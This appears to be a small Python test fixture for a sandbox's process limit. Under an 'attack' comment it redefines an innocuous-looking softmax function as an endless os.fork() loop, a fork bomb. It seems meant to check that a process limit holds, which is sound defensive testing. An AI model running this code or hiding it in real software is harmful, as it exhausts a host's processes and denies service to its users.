"""Forks as often as it can, from a check.

Must happen: the limit of processes holds; that check is `timeout` or `error`, the others count.

off: naive
seen: processes
"""

import os
import time

import numpy as np


def softmax(logits):
    return np.zeros_like(logits)


def slope(x):
    return 1.0 - np.tanh(x) ** 2


# --- attack
def softmax(logits):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.02)


# --- end
